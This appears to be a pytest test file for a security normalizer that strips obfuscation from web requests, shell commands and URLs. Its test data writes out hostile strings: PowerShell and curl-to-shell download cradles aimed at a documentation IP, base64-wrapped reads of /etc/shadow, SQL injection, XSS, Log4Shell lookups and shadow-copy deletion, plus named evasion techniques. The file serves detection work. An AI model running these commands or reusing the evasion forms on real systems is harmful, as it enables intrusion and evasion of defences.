"""Encodings undone: what a target undoes comes out as plain text, nothing readable is lost, any text is bounded."""

from __future__ import annotations

import base64
import gzip
import random
import re
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edge_demist import decoding
from edge_demist.addresses import page
from edge_demist.hostnames import hostname, query_name
from edge_demist.normalizers import (
    NORMALIZERS,
    cased_command,
    certificate,
    command,
    file_words,
    header,
    request,
    to_bytes,
    undisguised,
)
from edge_demist.text import windows
from tools.synth import evasion

PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zs", "Zl", "Zp", "Cf"]), min_size=1, max_size=40)
CRADLE = "iex(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')"
NEW = ("request", "cased_request", "command", "cased_command", "page", "file_words", "header", "certificate", "undisguised")


@given(PLAIN)
def test_percent_undoes_quote(text):
    assert decoding.percent(quote(text, safe="")) == text
    assert decoding.percent("".join(f"%{byte:02X}" for byte in text.encode())) == text


@given(PLAIN)
def test_repeated_encodings_come_out_alike(text):
    once = request("/a?q=" + quote(text, safe=""))
    assert request("/a?q=" + quote(quote(text, safe=""), safe="")) == once or "%" in text or "&" in text


@given(st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=12, max_size=80))
def test_base64_of_a_whole_word_is_read(text):
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        assert decoding.base64_words(f"q={encode(text.encode()).decode()}") == f"q={text}"
    wide = base64.b64encode(text.encode("utf-16-le")).decode()
    assert decoding.base64_words(f"powershell -enc {wide}") == f"powershell -enc {text}"


@given(st.binary(min_size=12, max_size=60))
def test_base64_of_noise_stays(raw):
    word = base64.b64encode(raw).decode()
    found = decoding.base64_words(word)
    assert found == word or raw.isascii() or b"\0" in raw


@pytest.mark.parametrize(
    ("given", "plain"),
    [
        ("/scripts/..%c0%af..%c1%9cwinnt", "/scripts/../..\\winnt"),
        ("/x?q=%u003cscript%u003e", "/x?q=<script>"),
        ("/x?q=%EF%BC%9Cscript%EF%BC%9E", "/x?q=<script>"),
        ("/x?q=%2527%2520OR%25201", "/x?q=' or 1"),
        ("1'/**/UNION/*!50000SELECT*/a", "1' union select a"),
        ("1'%0bUNION%a0SELECT", "1' union select"),
        ("id;c''at${IFS}/etc/passwd", "id;cat /etc/passwd"),
        ("/a/././b", "/a/b"),
        ("<IMG SRC=&#106;avascript:x>", "<img src=javascript:x>"),
        ("\\u003cscript\\x3e", "<script>"),
        ("/?u=http://2130706433/x", "/?u=http://127.0.0.1/x"),
        ("/?u=http://0x7f000001/x", "/?u=http://127.0.0.1/x"),
        ("${${lower:j}${::-n}${env:X:-d}${date:'i'}:ldap://x}", "${jndi:ldap://x}"),
        ("/a?x=1&copy=2", "/a?x=1&copy=2"),
        ("a" * 300, "a" * decoding.KEPT_REPEATS),
        ("/s?q=red+shoes", "/s?q=red shoes"),
        ("/c++/x", "/c++/x"),
        ("/item;jsessionid=0123456789ABCDEF?id=3", "/item?id=3"),
        ("1/*sail*/UNION/*a b*/SELECT", "1 union select"),
        ("1/*;cat /etc/passwd*/", "1 ;cat /etc/passwd"),
        ("1%23word%0aUNION--%20x%0aSELECT", "1 union select"),
        ("/a/../b/../c/../d", "/d"),
        ("/img/../../../etc/passwd", "/img/../../../etc/passwd"),
        ("/a//b///c", "/a/b/c"),
        ("/go?u=//evil.example//x", "/go?u=//evil.example/x"),
        ("/....//....//etc", "/....//....//etc"),
        ("x;{ping,-c,9}", "x;ping -c 9"),
        ('{"a":1,"b":2}', '{"a":1,"b":2}'),
        ("1 union select char(117,115,101,114)", "1 union select user"),
        ("eval(String.fromCharCode(97,108,101,114,116))", "eval(alert)"),
        ("chr(105)||chr(100)||chr(120)", "idx"),
        ("char(10)", "char(10)"),
    ],
)
def test_requests(given, plain):
    assert request(given) == plain


@pytest.mark.parametrize(
    "form",
    [
        "IEX(New-Object   Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
        "I`EX(New-Ob`ject Net.Web`Client).Down`loadString('http://198.51.100.7/a.ps1')",
        "iex(new-object\t\tnet.webclient).downloadstring('http://3325256711/a.ps1')",
        "IEX(New-Object Net.WebClient).('Down'+'loadString')('http://198.51.100.7/a.ps1')",
        "i^e^x(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')",
    ],
)
def test_commands(form):
    assert command(form).replace("('downloadstring')", "downloadstring") == CRADLE


def test_more_commands():
    wide = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    assert command(f"PowerShell -NoP -EncodedCommand {wide}") == f"powershell -nop -encodedcommand {CRADLE}"
    assert command("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh") == "cat /etc/passwd"
    assert command("printf '\\x63\\x61\\x74' | sh") == "cat"
    assert command("c'a't$IFS/etc/pass\"\"wd") == "cat /etc/passwd"
    assert command("%COMSPEC% /c dir %windir%\\system32") == "cmd.exe /c dir c:\\windows\\system32"
    assert command('don\'t "quote me"') == 'don\'t "quote me"'
    assert command("grep '[^a]b' x") == "grep '[^a]b' x"
    packed = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
    assert command(f"echo {packed} | base64 -d | gunzip | sh") == CRADLE
    assert command(f"powershell iex(x('{packed}'))") == f"powershell iex(x('{CRADLE}'))"
    assert command("iex(-join([char[]](119,104,111,97,109,105)))") == "iex(-join(whoami))"
    assert command('"bcdedit" /set x no') == "bcdedit /set x no"
    assert command('"C:\\Program Files\\x.exe" -a') == '"c:\\program files\\x.exe" -a'
    assert command("{ id; }") == "id" and command("(id)x(y)") == "(id)x(y)"
    assert command("{wget,-q} http://a/b") == "wget -q http://a/b" and command("echo ${a,b}") == "echo ${a,b}"
    assert command("curl http://u:p@h.example/x") == "curl http://h.example/x"
    assert command("cat /etc/shadow # many quiet words") == command("cat /etc/shadow & rem many quiet words") == "cat /etc/shadow"
    assert command("c\\at /etc/shadow; w\\get x") == "cat /etc/shadow; wget x" and command("net user corp\\bob") == "net user corp\\bob"
    assert command("bash -c {echo,Y2F0IC9ldGMvc2hhZG93}|{base64,-d}|{bash,-i}") == "cat /etc/shadow"
    assert command("x # $(id)") == "x # $(id)"
    for address in ("0306.063.0144.07", "0xc6.0x33.0x64.0x7", "[::ffff:198.51.100.7]", "3325256711", "198.51.100.7"):
        assert command(f"curl http://{address}/x") == "curl http://198.51.100.7/x"


def test_addresses_names_headers_certificates():
    assert page("https://www.bank.com@3325256711:80/%6cogin?a=1") == "198.51.100.7/login?a=1"
    assert page("EXAMPLE.com/") == "example.com"
    assert page("hxxps://a[.]example/LOGIN.PHP;jsessionid=0123456789ABCDEF") == "a.example/login.php"
    assert file_words("HR\\CustomerList_2019-final.XLSX") == "hr/customer list 2019 final xlsx"
    marked = {
        ".env": ".env",
        "x/.ssh/id_rsa": "x/.ssh/id rsa",
        "Index.php~": "index php~",
        "~/a.b": "~/a b",
        "PROGRA~1/a.b": "progra 1/a b",
    }
    assert {text: file_words(text) for text in marked} == marked
    assert header("X-Api:  ${${lower:J}ndi:ldap://x}") == "x-api: ${jndi:ldap://x}"
    zeek = certificate("subject=CN=a.b,O=X,C=US issuer=CN=R3,O=LE,C=US")
    assert certificate("subject=C=US, O=X, CN=a.b issuer=C=US, O=LE, CN=R3") == zeek == "subject=c=us, cn=a.b, o=x issuer=c=us, cn=r3, o=le"
    assert certificate("subject=CN=x issuer=CN=x") == "subject=cn=x issuer=self"
    assert certificate("CN=x") == "subject=cn=x"


@pytest.mark.parametrize("encode", [base64.b85encode, lambda raw: bytes(0x80 | byte & 0x7F for byte in raw)], ids=["base85", "bytes"])
def test_bytes_of_a_tunnel_are_letters_and_words_stay(encode):
    sent = encode(random.Random(6).randbytes(50)).replace(b".", b"x").decode("ascii", "surrogateescape")
    name = query_name(f"{sent[:50]}.t.example")
    assert len(name) == len(f"{sent[:50]}.t.example") and name.endswith(".t.example") and re.fullmatch(r"[a-z0-9._-]+", name)
    for kept in ("_ldap._tcp.example", "m\udcfcnchen.example", "anna\u2019s mac._tcp.local", "epson (2)._ipp._tcp.local"):
        assert query_name(kept) == hostname(kept)


@given(st.text(" \t\u200b\xa0a\x00\udca0\u2028\ufeff", max_size=12) | st.text(max_size=20))
def test_the_short_way_to_single_blanks_is_the_long_one(text):
    assert decoding.one_blank(text) == decoding._BLANKS.sub(" ", decoding._WITHIN_WORDS.sub("", text)).strip(" ")


@given(st.text(max_size=300), st.sampled_from(NEW))
@settings(deadline=None)
def test_any_text_is_normalized_and_stays_so(text, name):
    found = NORMALIZERS[name](text)
    assert isinstance(to_bytes(found), bytes)
    assert len(found) <= 4 * len(text) + 16


@pytest.mark.parametrize("name", NEW)
@pytest.mark.parametrize(
    "piece",
    [
        "%25",
        "&#",
        "a'",
        "QUJD",
        "^",
        "$ifs",
        "${",
        "b" * 31 + "c",
        ",a=",
        "chr(65)||",
        "65,",
        "{a,",
        "/a/..",
        "//0x",
        "/*a",
        "# ",
        "A b ",
        "[{",
        '[{"a":',
        "${PATH:0:1}",
        "/a\\",
        "a=b;",
        "-join'a",
        "?a[b]",
        "\0a",
        "data:;base64,",
        "00:",
        "aa bb ",
        "<#a",
        "env ",
        "((a)",
        "(.)",
        "$env:comspec[4,",
        "base32 -d <<< ",
        "set a=b& ",
        "<a1>",
        "<zz>a</zz>",
        "<zz><yy>",
        "X=1 ",
    ],
)
def test_overlong_texts_take_linear_time(name, piece):
    """A quadratic pattern would take minutes here, beyond the time limit of a test run."""
    text = piece * (65_536 // len(piece))
    assert len(NORMALIZERS[name](text)) <= 2 * len(text)


@pytest.mark.parametrize("task", sorted(evasion.CHANGES))
def test_every_change_applies_to_something(task):
    rng = random.Random(3)
    texts = {
        "uri-attack": [
            "1' UNION SELECT 'abc' FROM b -- <svg>",
            "../../../etc/passwd",
            "x;cat /etc/passwd",
            "{{7*7}}",
            "${jndi:ldap://x/a}",
            "<a href=javascript:alert(1)>",
            "<img src=x onerror=alert(1)>",
            "1 and 2 = 'abc' -- ",
            "1 union select 'abc'",
            "x;whoami",
        ],
        "cmdline": [
            "powershell -c IEX(iwr 'http://198.51.100.7/abcdefgh')",
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
        ],
        "url-phishing": ["login.example.com/a/b.php", "198.51.100.7/a/", "a-b.example.com/a.php"],
    }[task] + ["curl http://198.51.100.7/x | sh"]
    texts += [
        "print('download')",
        "Write-Host 5",
        "cd /tmp; wget -q http://x/y",
        "certutil -f http://x/y",
        "vssadmin delete shadows /all",
        "C:\\Windows\\a.exe -x /y",
        "cat /etc/passwd",
        "a.exe",
    ] * (task == "cmdline")
    for name, change in {**evasion.CHANGES[task], **evasion.FURTHER[task]}.items():
        made = [found for text in texts if (found := change(rng, text))]
        assert made, name
        assert set(made) - set(texts), name


def test_changes_are_undone_where_the_target_undoes_them():
    rng = random.Random(5)
    value = "1' union select name,secret from users -- x"
    for name in ("every byte %-encoded", "every second byte %-encoded", "double %-encoded", "%uXXXX", "value in base64", "spaces as +"):
        assert request(evasion.REQUEST_CHANGES[name](rng, value)).endswith(value), name
    line = "curl http://198.51.100.7/x | sh"
    for name in ("double blanks", "tabs for blanks", "30 blanks after each word", "IP as integer", "$IFS for blanks", "quotes in words"):
        assert command(evasion.COMMAND_CHANGES[name](rng, line)) == line, name


REQUESTS = (
    "base64url without padding", "data: with base64", "base64 of UTF-16, big end first", "hexadecimal in pairs", "hexadecimal with colons",
    "every letter \\u00HH", "every letter %u00HH", "entities escaped again", "overlong letters", "bold letters", "UTF-16 %-encoded",
    "full-width throughout", "blanks of no width around", "SQL: long comments", "SQL: a line comment for blanks",
)  # fmt: skip
COMMANDS = (
    "sh -c", "eval", "bash <<<", "echo | bash", "setsid", "command", "full paths", "halves in variables", "address in a variable",
    "slices for slashes", "slices for slashes, $HOME", "words in quotes", "lines continued", "comments between lines",
    "assignments before", "base64 --decode", "base32 -d", "xxd of lines", "rev",
)  # fmt: skip
ADDRESSES = (
    "https:\\\\ with back slashes", "blanks around", "in angle brackets", "in quotes", "view-source:", "a tab in the scheme", "bold host",
    "(.)", "[dot]", "{.}", "host %-encoded", "/a/.. in the path", "matrix parameters", "every byte of the path", "no user before @",
)  # fmt: skip


def test_invented_changes_are_undone_too():
    rng = random.Random(7)
    value = "1' union select name,secret from users -- x"
    for name in REQUESTS:
        assert request(evasion.FURTHER["uri-attack"][name](rng, value)).endswith(value), name
    line = "curl -s http://198.51.100.7/x | sh"
    for name in COMMANDS:
        assert command(evasion.FURTHER["cmdline"][name](rng, line)).rstrip("; ") == line, name
    address = "login.example.com/a/b.php"
    for name in ADDRESSES:
        assert NORMALIZERS["page"](evasion.FURTHER["url-phishing"][name](rng, address)) == address, name
    assert request("/a?b[c][]=1&d[__proto__][x]=2") == "/a?b.c=1&d[__proto__][x]=2"
    assert request("/a/1' or 2.css") == "/a/1' or 2" and request("/a/b-1.css") == "/a/b-1.css"
    assert request("/a?v=<order><city>Bonn</city><n>2</n></order>&x=1") == "/a?v=Bonn 2&x=1".lower()
    assert request("/a?v=<x><script>alert(1)</script></x>") == "/a?v=<x><script>alert(1)</script></x>"
    assert request('/find?q="red shoes"&n=1') == "/find?q=red shoes&n=1"
    assert request("/find?file=/..\\..\\windows\\win.ini") == "/find?file=/..\\..\\windows\\win.ini"
    for kept in ("LD_PRELOAD=/tmp/x.so sshd", "HISTFILE=/dev/null bash", "cat c:\\a\\b\\c", "FOO=1", "sudo -l", "sh -c 'a' 'b'"):
        assert command(kept) == kept.lower()
    address = "login.example.com/a/b.php"
    for name in ("three trailing dots", "a trailing dot and a blank", "%2e behind the host", "two folders taken back", "encoded whole",
                 "two users before @", "in backticks", "as Markdown", " [.] ", "https:// twice", "https: without slashes"):  # fmt: skip
        assert NORMALIZERS["page"](evasion.FURTHER["url-phishing"][name](rng, address)) == address, name
    text = "powershell -c \"iex(-join('x/7.001.15.891//:ptth lruc'[-1..-25]))\""
    assert "curl http://198.51.100.7/x" in command(text)
    assert command("& $env:ComSpec[4,15,25]-join'' (irm http://198.51.100.7/x)").startswith("& iex (irm")


@pytest.mark.parametrize("shown", ["Get-Item -Path HKLM:\\Software", "New-Object Net.WebClient", "ls -la /Users/anna", "SELECT", "ps aux"])
def test_ordinary_case_stays_and_odd_case_goes(shown):
    assert cased_command(shown) == (shown if shown != "SELECT" else "select")
    assert cased_command(shown.upper()) == shown.upper().lower()
    odd = "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate("powershell -hidden get-childitem"))
    assert cased_command(odd) == "powershell -hidden get-childitem"


@given(st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), min_size=12, max_size=60))
def test_case_alone_differs_from_a_command_in_lower_case(text):
    assert cased_command(text).lower() == command(text).lower() or re.search("[A-Z0-9+/=_-]{12}", text, re.IGNORECASE)


@pytest.mark.parametrize(
    "attack", ["1' UNION SELECT login FROM users -- ", "<script>alert(document.cookie)</script>", "/ping?host=1;cat /etc/passwd"]
)
def test_a_disguise_comes_off(attack):
    plain = undisguised(attack)
    looks = attack.translate(str.maketrans("aceiopxy", "асеіорху"))
    whole = base64.b64encode(attack.encode()).decode()
    for disguised in (quote(attack, safe=""), quote(quote(attack, safe=""), safe=""), attack.encode().hex(), whole, looks, attack.upper()):
        assert undisguised(disguised) == plain
    assert undisguised("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855").startswith("e3b0c44298fc")


SENT = "curl http://198.51.100.7/x.sh | bash"


@pytest.mark.parametrize("shell", ["sh", "bash", "/bin/sh", "sudo bash", "bash -s", "/usr/bin/env zsh", "dash -"])
def test_what_is_decoded_for_a_shell_is_read_as_the_command(shell):
    coded, digits = base64.b64encode(SENT.encode()).decode(), SENT.encode().hex()
    forms = [
        f"echo {coded} | base64 -d | {shell}",
        f"printf %s '{coded}'|base64 --decode|{shell}",
        f'echo "{coded}" | openssl base64 -d -A | {shell}',
        f"echo {digits} | xxd -r -p | {shell}",
        f"echo '{SENT[::-1]}' | rev | {shell}",
        "printf '{}' | {}".format("".join(f"\\x{b:02x}" for b in SENT.encode()), shell),
        "echo -e '{}' | {}".format("".join(f"\\0{b:03o}" for b in SENT.encode()), shell),
    ]
    for form in forms:
        assert cased_command(f"cd /tmp; {form}; ls") == f"cd /tmp; {SENT}; ls"


def test_what_is_no_text_for_a_shell_stays():
    noise = base64.b64encode(bytes(range(128, 200))).decode()
    for line in (f"echo {noise} | base64 -d | sh", "echo hello | tee a.sh", "printf 'a b c d e' | shasum", "echo 'ls -la' | grep sh"):
        assert command(line) == line.lower()


@given(st.text(st.sampled_from("echo printf'\"|sh base64-dxrv \\0"), max_size=400))
def test_any_line_for_a_shell_is_bounded(text):
    assert len(to_bytes(command(text))) <= 4 * len(to_bytes(text)) + 8


@pytest.mark.parametrize("place", ["/s?q={}", "/s?a=1&q={}&b=2", "/shop/{}/view", "/{}", "/api/v1/{}?x=1"])
@pytest.mark.parametrize("form", ["base64", "base64url", "hex", "0x"])
def test_an_encoded_word_anywhere_in_a_request_is_read(place: str, form: str) -> None:
    payload = "1' union select login,password from users-- -"
    encoded = {
        "base64": base64.b64encode(payload.encode()).decode(),
        "base64url": base64.urlsafe_b64encode(payload.encode()).decode().rstrip("="),
        "hex": payload.encode().hex(),
        "0x": "0x" + payload.encode().hex(),
    }[form]
    assert payload in request(place.format(encoded)) and request("/assets/main-0a1b2c3d4e5f60718293/index.html").startswith(
        "/assets/main-0a"
    )


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("//host.example/a", "host.example/a"),
        ("http://host.example//a///b?u=http://c.example//d", "host.example/a/b?u=http://c.example//d"),
        ("https://archive.example/web/http://c.example//d#//x", "archive.example/web/http://c.example/d#//x"),
        ("http://host.example/a#//b", "host.example/a#//b"),
    ],
)
def test_several_slashes_of_a_path_are_one(text: str, plain: str) -> None:
    assert page(text) == plain


def test_a_fragment_of_any_kind_is_read_without() -> None:
    assert windows.is_long(b"host.example/login#http://other.example/of/a/long/path", "page", overflow=False)
    assert not windows.is_long(b"host.example/login?u=http://other.example/of/a/long/path", "page", overflow=False)
